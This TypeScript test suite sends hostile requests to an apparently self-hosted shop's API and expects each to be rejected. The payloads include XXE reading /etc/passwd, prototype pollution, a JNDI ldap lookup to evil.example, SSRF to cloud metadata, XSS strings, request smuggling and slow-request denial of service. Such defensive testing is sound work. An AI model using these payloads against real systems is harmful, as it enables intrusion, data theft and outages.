import { setTimeout as pause } from 'node:timers/promises';
import { NO_PICTURES } from '../../server/bff/hostile-files.ts';
import { type Attack, attack, EVIL, inSession, JSON_TYPE, noEvil, type Target } from './attack.ts';
import { requestText } from './raw.ts';

const ADD_TO_CART = '/api/stores/main/shopping-cart/add-to-cart';
const GOOD_LINE = '{"product_variant_id":"no-such","qty":1}';

const BODIES: [name: string, body: string, lines: string[], status: number[]][] = [
  ['as a form', 'product_variant_id=x&qty=1', ['Content-Type: application/x-www-form-urlencoded'], [415]],
  ['as text', GOOD_LINE, ['Content-Type: text/plain'], [415]],
  ['as nothing', GOOD_LINE, [], [415]],
  ['as XML', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', ['Content-Type: application/xml'], [415]],
  ['compressed', GOOD_LINE, [JSON_TYPE, 'Content-Encoding: gzip'], [415]],
  ['not JSON', '{"product_variant_id":', [JSON_TYPE], [422]],
  ['a prototype', '{"product_variant_id":"x","qty":1,"__proto__":{"isAdmin":true}}', [JSON_TYPE], [422]],
  ['a constructor', '{"product_variant_id":"x","qty":1,"constructor":{"prototype":{"isAdmin":true}}}', [JSON_TYPE], [422]],
  ['an unknown key', '{"product_variant_id":"x","qty":1,"price":0}', [JSON_TYPE], [422]],
  ['another method', '{"product_variant_id":"x","qty":1,"_method":"DELETE"}', [JSON_TYPE], [422]],
  ['an operator for a text', '{"product_variant_id":{"$gt":""},"qty":1}', [JSON_TYPE], [422]],
  ['a list', `[${GOOD_LINE}]`, [JSON_TYPE], [422]],
  ['100,000 levels deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, [JSON_TYPE], [422]],
  ['300 kB', `{"product_variant_id":"${'x'.repeat(300_000)}","qty":1}`, [JSON_TYPE], [413]],
];

const CROSS_SITE: [name: string, lines: string[]][] = [
  ['Sec-Fetch-Site: cross-site', ['Sec-Fetch-Site: cross-site']],
  ['Sec-Fetch-Site: same-site', ['Sec-Fetch-Site: same-site']],
  ['Sec-Fetch-Site: none', ['Sec-Fetch-Site: none']],
  ['another Origin', [`Origin: https://${EVIL}`]],
  ['Origin: null', ['Origin: null']],
  ['a name that begins like the shop', ['Origin: http://localhost.evil.example']],
];

const REPORTS_TYPE = 'Content-Type: application/reports+json';
const reportWith = (url: string, body: string) => `[{"type":"crash","url":"${url}","body":${body}}]`;
const viewWith = (more: string) => `[{"path":"/","device":"phone","navigation":"navigate","values":{}${more}}]`;

const BEACONS: [name: string, path: string, type: string, body: string, status: number[]][] = [
  ['reports as a form', '/api/reports', 'Content-Type: application/x-www-form-urlencoded', 'a=1', [415]],
  ['reports that are none', '/api/reports', REPORTS_TYPE, '{"__proto__":{"isAdmin":true}}', [422]],
  ['reports, 100 kB', '/api/reports', REPORTS_TYPE, `["${'x'.repeat(100_000)}"]`, [413]],
  [
    'a report, 30,000 levels deep',
    '/api/reports',
    REPORTS_TYPE,
    reportWith('http://localhost/', `{"a":${'['.repeat(30_000)}${']'.repeat(30_000)}}`),
    [204, 422],
  ],
  ['a report of another site', '/api/reports', REPORTS_TYPE, reportWith(`https://${EVIL}/`, '{"message":"x"}'), [204]],
  [
    'a report with line breaks for the log',
    '/api/reports',
    REPORTS_TYPE,
    reportWith('http://localhost/', '{"message":"a\\n{\\"level\\":\\"fatal\\"}"}'),
    [204],
  ],
  ['web vitals as text', '/api/vitals', 'Content-Type: text/plain', viewWith(''), [415]],
  ['web vitals, 100 kB', '/api/vitals', JSON_TYPE, `["${'x'.repeat(100_000)}"]`, [413]],
  ['web vitals with an unknown key', '/api/vitals', JSON_TYPE, viewWith(',"user":"kayan"'), [422]],
  ['web vitals with a prototype', '/api/vitals', JSON_TYPE, viewWith(',"__proto__":{"isAdmin":true}'), [204, 422]],
  ['web vitals, 10,000 levels deep', '/api/vitals', JSON_TYPE, `${'['.repeat(10_000)}${']'.repeat(10_000)}`, [422]],
  ['web vitals of another site', '/api/vitals', JSON_TYPE, `[{"path":"https://${EVIL}/","device":"phone","navigation":"navigate","values":{}}]`, [422]],
  ['web vitals beyond any measure', '/api/vitals', JSON_TYPE, '[{"path":"/","device":"phone","navigation":"navigate","values":{"LCP":1e300}}]', [422]],
];

const smuggled = (name: string, lines: string[], body: string): Attack =>
  attack('smuggling', name, 'POST', '/api/auth/login', [400], { lines: [JSON_TYPE, ...lines], body });

/** An upload of a file that calls itself a JPEG. */
const uploaded = (name: string, file: Buffer, status: number): Attack => ({
  kind: 'upload',
  name,
  status: [status],
  parts: ({ host, session }) => {
    const head = '--b\r\nContent-Disposition: form-data; name="file"; filename="slip.jpg"\r\nContent-Type: image/jpeg\r\n\r\n';
    const body = Buffer.concat([Buffer.from(head), file, Buffer.from('\r\n--b--\r\n')]);
    const lines = [`Cookie: ${session}`, 'Content-Type: multipart/form-data; boundary=b', `Content-Length: ${body.length}`];
    return [requestText(host, 'POST', '/api/upload', lines), body];
  },
});

/** What a request carries: body, cookies, headers, the way it is written. */
export const ATTACKS_BY_CONTENT: Attack[] = [
  ...BODIES.map(([name, body, lines, status]) => attack('body', name, 'POST', ADD_TO_CART, status, { lines, body, ...inSession })),
  attack('body', 'of a login, 300 kB', 'POST', '/api/auth/login', [413], { lines: [JSON_TYPE], body: `{"type":"TEMP","x":"${'x'.repeat(300_000)}"}` }),
  attack('body', 'a guest that chooses its name', 'POST', '/api/auth/login', [422], {
    lines: [JSON_TYPE],
    body: '{"type":"TEMP","login_id":"guest-of-someone"}',
  }),
  ...(
    [
      ['POST', '/api/credit-cards/bind-card', `{"success_url":"https://${EVIL}/a","cancel_url":"https://${EVIL}/b"}`],
      ['POST', '/api/credit-cards/bind-card', '{"success_url":"javascript:alert(1)","cancel_url":"//evil.example"}'],
      ['PUT', '/api/orders/order-261118/upload', `{"image":"https://${EVIL}/slip.webp"}`],
      ['POST', '/api/orders/order-261118/reviews', `{"comment":"x","images":["https://${EVIL}/a.webp"]}`],
      ['POST', '/api/orders/order-261118/refund-request', '{"reason":"x","images":["any text"],"refund_items":[{"product_variant_id":"x","qty":1}]}'],
    ] as const
  ).map(([method, path, body]) => attack('body', `an address of another origin, ${path}`, method, path, [422], { lines: [JSON_TYPE], body, ...inSession })),
  ...BEACONS.map(([name, path, type, body, status]) => attack('beacon', name, 'POST', path, status, { lines: [type], body })),
  ...['/api/reports', '/api/vitals'].map((path) => attack('beacon', `${path}, read`, 'GET', path, [405])),
  ...NO_PICTURES.map(([what, bytes]) => uploaded(what, bytes, 415)),
  uploaded('two files', Buffer.from('GIF89a\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="b.jpg"\r\n\r\nx'), 422),
  attack('body', 'an upload as JSON', 'POST', '/api/upload', [415], { lines: [JSON_TYPE], body: '{}', ...inSession }),
  attack('body', 'an upload of 12 MB, announced', 'POST', '/api/upload', [413], {
    lines: ['Content-Type: multipart/form-data; boundary=b', `Content-Length: ${12 * 1024 * 1024}`],
    ...inSession,
  }),
  ...CROSS_SITE.map(([name, lines]) => attack('cross-site', name, 'POST', ADD_TO_CART, [403], { lines: [JSON_TYPE, ...lines], body: GOOD_LINE, ...inSession })),
  ...CROSS_SITE.slice(0, 2).map(([name, lines]) => attack('cross-site', `logout, ${name}`, 'GET', '/api/auth/logout', [403], { lines, ...inSession })),
  attack('cookie', 'two sessions', 'GET', '/api/auth/user', [400], { lines: (target) => [`Cookie: auth.token=tossed; ${target.session}`] }),
  attack('cookie', 'two sessions in two headers', 'GET', '/api/auth/user', [400], {
    lines: (target) => ['Cookie: auth.token=tossed', `Cookie: ${target.session}`],
  }),
  attack('cookie', 'a second session without a value', 'GET', '/api/auth/user', [400], { lines: (target) => [`Cookie: auth.token; ${target.session}`] }),
  attack('cookie', 'two guests', 'POST', '/api/auth/login', [400], {
    lines: (target) => [JSON_TYPE, `Cookie: auth.guest=guest-00000000-0000-4000-8000-000000000000; ${target.session}`],
    body: '{"type":"TEMP"}',
  }),
  attack('cookie', 'a line break in the token', 'GET', '/api/auth/user', [401], { lines: ['Cookie: auth.token=a%0d%0aX-Injected:%201'] }),
  attack('cookie', 'a token of 8,000 letters', 'GET', '/api/auth/user', [401], { lines: [`Cookie: auth.token=${'x'.repeat(8_000)}`] }),
  attack('cookie', 'a type without a token', 'GET', '/api/auth/user', [401], { lines: ['Cookie: auth.type=EMAIL'] }),
  attack('header', 'a line break in a header', 'GET', '/api/auth/user', [400], { lines: ['X-Request-Id: a\rX-Injected: 1'] }),
  attack('header', 'a null byte in a header', 'GET', '/', [400], { lines: ['X-Any: a\0b'] }),
  attack('header', 'a space before the colon', 'GET', '/', [400], { lines: ['Content-Length : 5'] }),
  attack('header', 'a folded header', 'GET', '/', [400], { lines: ['X-Any: a', ' b'] }),
  attack('header', '100 kB of headers', 'GET', '/', [431], { lines: [`X-Any: ${'x'.repeat(100_000)}`] }),
  attack('header', '5,000 headers', 'GET', '/', [431], { lines: Array.from({ length: 5_000 }, (_, index) => `X-${index}: 1`) }),
  attack('header', 'a request id with code', 'GET', '/api/auth/user', [200], {
    lines: ['X-Request-Id: ${jndi:ldap://evil.example/a}"},{"level":"fatal'],
    ...inSession,
    mayAsk: true,
    isHarmless: noEvil,
  }),
  attack('header', 'another protocol (WebSocket)', 'GET', '/account', [400], {
    lines: ['Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: x', 'Sec-WebSocket-Version: 13'],
  }),
  attack('header', 'another protocol (h2c)', 'GET', '/', [400], {
    lines: ['Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA'],
  }),
  smuggled('length and chunks', ['Content-Length: 4', 'Transfer-Encoding: chunked'], '5c\r\nGET /api/auth/logout HTTP/1.1\r\n\r\n0\r\n\r\n'),
  smuggled('two lengths', ['Content-Length: 2', 'Content-Length: 20'], '{}'),
  smuggled('a negative length', ['Content-Length: -1'], '{}'),
  smuggled('a length in hexadecimal', ['Content-Length: 0x2'], '{}'),
  smuggled('a chunk of no size', ['Transfer-Encoding: chunked'], 'zz\r\n{}\r\n0\r\n\r\n'),
  smuggled('a chunk with only a line feed', ['Transfer-Encoding: chunked'], '2\n{}\n0\n\n'),
  smuggled('chunked twice', ['Transfer-Encoding: chunked, identity'], '2\r\n{}\r\n0\r\n\r\n'),
  smuggled('chunked, disguised', ['Transfer-Encoding: xchunked'], '2\r\n{}\r\n0\r\n\r\n'),
  ...[
    ['cached page', 'RSC: 1', '/about-us', [200, 307]],
    ['cached page', 'RSC: 1\r\nNext-Router-State-Tree: garbage', '/about-us?_rsc=x', [200, 307, 400]],
    ['cached page', "Content-Security-Policy: script-src 'nonce-evil.example'", '/contact-us', [200]],
    ['cached page', 'X-Forwarded-Host: evil.example', '/posts', [200]],
    ['cached page', 'Accept-Language: evil.example', '/posts', [200]],
    ['cached page', 'Range: bytes=0-1', '/posts', [200]],
  ].map(([kind, line, path, status]) =>
    attack(String(kind), String(line).replace('\r\n', ', '), 'GET', String(path), status as number[], {
      lines: String(line).split('\r\n'),
      isHarmless: noEvil,
      mayAsk: true,
    }),
  ),
  ...[
    `http://${EVIL}/a.jpg`,
    'http://169.254.169.254/latest/meta-data/',
    'http://localhost:22/',
    'http://[::1]/a.png',
    `//${EVIL}/a.png`,
    '/api/auth/logout',
    '/api/health',
    '/og.png',
    '/_next/image?url=%2Fog.png&w=64&q=75',
    'file:///etc/passwd',
    'data:image/svg+xml,<svg onload=alert(1)>',
    `http://localhost@${EVIL}/a.png`,
  ].map((url) => attack('pictures', url, 'GET', `/_next/image?url=${encodeURIComponent(url)}&w=64&q=75`, [400])),
  attack('pictures', 'a width of its own', 'GET', '/_next/image?url=%2Fog.png&w=99999&q=75', [400]),
  {
    kind: 'pictures',
    name: 'an answer of the backend is no picture',
    status: [400],
    mayAsk: true,
    parts: ({ host, backend }) => [requestText(host, 'GET', `/_next/image?url=${encodeURIComponent(`${backend}/configuration/latest`)}&w=64&q=75`)],
  },
  // the optimiser prints the address that failed, and the log looks for secrets in it
  ...['token', 'email', 'a@a.'].map((word) => ({
    kind: 'log',
    name: `3 kB of “${word}” in the address of a picture that is not there`,
    status: [404],
    mayAsk: true as const,
    within: 2,
    parts: ({ host, backend }: Target) => [
      requestText(host, 'GET', `/_next/image?url=${encodeURIComponent(`${backend}/${word.repeat(3_000 / word.length)}`)}&w=640&q=75`),
    ],
  })),
  attack('pictures', 'for sharing, another kind', 'GET', '/og/en/order/1', [404]),
  attack('pictures', 'for sharing, a path as id', 'GET', '/og/en/service/..%2f..%2fprofiles%2faccount', [404], { mayAsk: true }),
  attack('pictures', 'for sharing, a language of its own', 'GET', '/og/%2e%2e/service/svc-window-seat', [404]),
  ...['', 'Bearer ', 'Bearer guess', 'Basic ZGVtbw==', 'bearer demo-revalidate-secret', `Bearer demo-revalidate-secret${' '.repeat(1)}x`].map((guess) =>
    attack('webhook', guess || 'no secret', 'POST', '/api/revalidate', [401], { lines: [JSON_TYPE, `Authorization: ${guess}`], body: '{"tags":["products"]}' }),
  ),
  attack('webhook', 'read', 'GET', '/api/revalidate', [405]),
  {
    kind: 'slow',
    name: 'a body of 100 bytes, one a second',
    status: [408],
    within: 14,
    parts: async function* ({ host }) {
      yield requestText(host, 'POST', '/api/auth/login', [JSON_TYPE, 'Content-Length: 100']);
      for (let byte = 0; byte < 60; byte += 1) {
        yield ' ';
        await pause(1_000);
      }
    },
  },
  {
    kind: 'slow',
    name: 'headers, one a second',
    status: [0, 408],
    within: 62,
    parts: async function* ({ host }) {
      yield `GET / HTTP/1.1\r\nHost: ${host}\r\n`;
      for (let line = 0; line < 100; line += 1) {
        yield `X-${line}: 1\r\n`;
        await pause(1_000);
      }
    },
  },
  {
    kind: 'body',
    name: 'of a login, 200 MB in chunks',
    // the connection is closed while there is still much to send: the answer may be lost on the way
    status: [0, 413],
    parts: function* ({ host }) {
      yield requestText(host, 'POST', '/api/auth/login', [JSON_TYPE, 'Transfer-Encoding: chunked']);
      for (let megabyte = 0; megabyte < 200; megabyte += 1) yield Buffer.from(`100000\r\n${'x'.repeat(0x100000)}\r\n`);
    },
  },
];
